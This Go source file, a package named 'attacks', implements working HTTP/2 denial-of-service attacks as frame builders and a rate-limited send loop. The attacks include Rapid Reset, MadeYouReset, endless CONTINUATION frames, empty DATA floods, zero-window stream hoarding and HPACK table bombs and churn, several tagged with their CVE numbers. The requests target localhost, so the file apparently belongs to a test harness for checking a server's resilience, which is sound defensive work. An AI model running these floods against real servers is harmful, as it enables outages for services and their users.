package attacks

import (
	"encoding/binary"
	"io"
	"net"
	"time"
)

// appendFrame appends a frame. RFC 9113 §4.1.
func appendFrame(dst []byte, kind, flags byte, id uint32, p []byte) []byte {
	dst = append(dst, byte(len(p)>>16), byte(len(p)>>8), byte(len(p)), kind,
		flags)
	dst = binary.BigEndian.AppendUint32(dst, id)
	return append(dst, p...)
}

// Types and flags. RFC 9113 §6.
const (
	data, headers, priority, reset, settings, ping, window, continuation = 0, 1,
		2, 3, 4, 6, 8, 9
	endStream, endHeaders = 1, 4
)

// A field block for GET or POST /hello on localhost, with nothing that needs a
// table of one's own but /hello itself: all of it is literal. RFC 7541 §6.2.2.
func block(method byte, path string) []byte {
	p := []byte{method, 0x86, 0x01, 9}
	p = append(p, "localhost"...)
	p = append(p, 0x04, byte(len(path)))
	return append(p, path...)
}

const get2, post2 = 0x82, 0x83

// begin sends the preface, and SETTINGS with the window that our streams shall
// have. RFC 9113 §3.4.
func begin(conn net.Conn, size uint32) {
	p := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	set := binary.BigEndian.AppendUint32([]byte{0, 4}, size)
	conn.Write(appendFrame(p, settings, 0, 0, set))
}

// blast writes what next appends, at the rate that is allowed and for as long
// as the server takes it, and throws away what comes back. When all is sent
// that may be, it waits for the server to end the connection.
func blast(conn net.Conn, t *tally, each int64, next func(p []byte) []byte) {
	heard := make(chan struct{})
	go func() {
		defer close(heard)
		io.Copy(io.Discard, conn)
	}()
	begun, sent := time.Now(), 0
	for p := []byte(nil); ; p = p[:0] {
		p = next(p)
		if !t.mayBe(len(p)) {
			<-heard // the connection has a deadline
			return
		}
		n, err := conn.Write(p)
		if err != nil {
			return
		}
		t.done.Add(each)
		sent += n
		due := time.Duration(sent) * time.Second / time.Duration(t.o.Rate)
		time.Sleep(time.Until(begun.Add(due)))
	}
}

// perWrite is how many frames, or pairs of them, go into one write.
const perWrite = 100

// many blasts frames that are all the same.
func many(frames []byte) func(net.Conn, *tally) {
	return func(conn net.Conn, t *tally) {
		begin(conn, 65535)
		blast(conn, t, perWrite, func(p []byte) []byte {
			for range perWrite {
				p = append(p, frames...)
			}
			return p
		})
	}
}

// streams blasts what each makes of a new stream.
func streams(window uint32, each func(p []byte, id uint32) []byte) func(
	net.Conn, *tally) {
	return func(conn net.Conn, t *tally) {
		begin(conn, window)
		id := uint32(1)
		blast(conn, t, perWrite, func(p []byte) []byte {
			for range perWrite {
				p = each(p, id)
				id += 2
			}
			return p
		})
	}
}

// rapidReset opens a stream and gives it up at once. CVE-2023-44487.
var rapidReset = streams(65535, func(p []byte, id uint32) []byte {
	p = appendFrame(p, headers, endStream|endHeaders, id,
		block(get2, "/wait"))
	return appendFrame(p, reset, 0, id, []byte{0, 0, 0, 8})
})

// madeYouReset opens a stream and makes a mistake on it, so that the server
// gives it up. CVE-2025-8671.
var madeYouReset = streams(65535, func(p []byte, id uint32) []byte {
	p = appendFrame(p, headers, endStream|endHeaders, id,
		block(get2, "/wait"))
	return appendFrame(p, window, 0, id, []byte{0, 0, 0, 0})
})

// noEnd sends a field block that goes on for ever. CVE-2024-27316.
func noEnd(conn net.Conn, t *tally) {
	begin(conn, 65535)
	conn.Write(appendFrame(nil, headers, endStream, 1, block(get2, "/hello")))
	field := append([]byte{0x00, 1, 'x', 120}, make([]byte, 120)...)
	for i := range 120 {
		field[4+i] = 'a'
	}
	more := appendFrame(nil, continuation, 0, 1, field)
	blast(conn, t, perWrite, func(p []byte) []byte {
		for range perWrite {
			p = append(p, more...)
		}
		return p
	})
}

// hoard asks for a hundred files, opens no window for them, and waits.
func hoard(conn net.Conn, t *tally) {
	begin(conn, 0)
	var p []byte
	for id := uint32(1); id < 200; id += 2 {
		p = appendFrame(p, headers, endStream|endHeaders, id,
			block(get2, "/live.js"))
	}
	conn.Write(p)
	t.done.Add(100)
	io.Copy(io.Discard, conn)
}

// bomb puts one large field into the table, and then names it with one byte,
// again and again.
func bomb(conn net.Conn, t *tally) {
	begin(conn, 65535)
	large := append(block(get2, "/hello"), 0x40, 1, 'x')
	large = append(large, 0x7f, 0xa1, 0x1e) // 127 + 3873 = 4,000 bytes
	for range 4000 {
		large = append(large, 'a')
	}
	first := appendFrame(nil, headers, endStream|endHeaders, 1, large)
	conn.Write(first)
	refs := block(get2, "/hello")
	for range 15000 {
		refs = append(refs, 0xbe) // 62: the newest of the table
	}
	id := uint32(3)
	blast(conn, t, 1, func(p []byte) []byte {
		p = appendFrame(p, headers, endStream|endHeaders, id, refs)
		id += 2
		return p
	})
}

// churn adds a field to the table for every few bytes, so that another has to
// go each time.
var churn = streams(65535, func(p []byte, id uint32) []byte {
	fields := block(get2, "/hello")
	for i := range 200 {
		fields = append(fields, 0x40, 1, 'x', 1, 'a'+byte(i%26))
	}
	return appendFrame(p, headers, endStream|endHeaders, id, fields)
})

// emptyData sends a body that never ends in frames that bring none of it.
// CVE-2019-9518.
func emptyData(conn net.Conn, t *tally) {
	begin(conn, 65535)
	conn.Write(appendFrame(nil, headers, endHeaders, 1,
		block(post2, "/upload")))
	frame := appendFrame(nil, data, 0, 1, nil)
	blast(conn, t, perWrite, func(p []byte) []byte {
		for range perWrite {
			p = append(p, frame...)
		}
		return p
	})
}
